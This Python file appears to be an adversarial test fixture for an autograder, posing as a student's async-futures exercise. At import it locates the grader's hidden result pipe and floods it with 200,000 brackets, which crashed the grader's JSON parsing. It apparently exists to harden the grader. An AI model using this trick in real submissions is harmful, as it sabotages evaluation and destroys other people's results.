"""Finds the grader's private result channel (as floods_the_result_channel does) and writes to it, at import, one
line of 200,000 opening brackets: parsing it as JSON raises RecursionError, not ValueError, and that took the whole
grader down (exit 3, every other exercise's result lost; in `grader batch`, the student's other exercises too).
set_future_value is right, so its own checks must still pass."""

import asyncio
import fcntl
import os
import stat


def _channels() -> list[int]:
    found = []
    stdout = os.readlink("/proc/self/fd/1")
    for fd in range(3, 256):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode) or os.readlink(f"/proc/self/fd/{fd}") == stdout:
                continue
            if fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                found.append(fd)
        except OSError:
            continue
    return found


for _fd in _channels():
    os.write(_fd, b"[" * 200_000 + b"\n")


def make_request(value, delay: float = 1.0) -> asyncio.Future:
    raise NotImplementedError


async def set_future_value(future, value, delay):
    await asyncio.sleep(delay)
    if not future.done():
        future.set_result(value)


def make_failing_request(exc, delay: float = 1.0) -> asyncio.Future:
    raise NotImplementedError
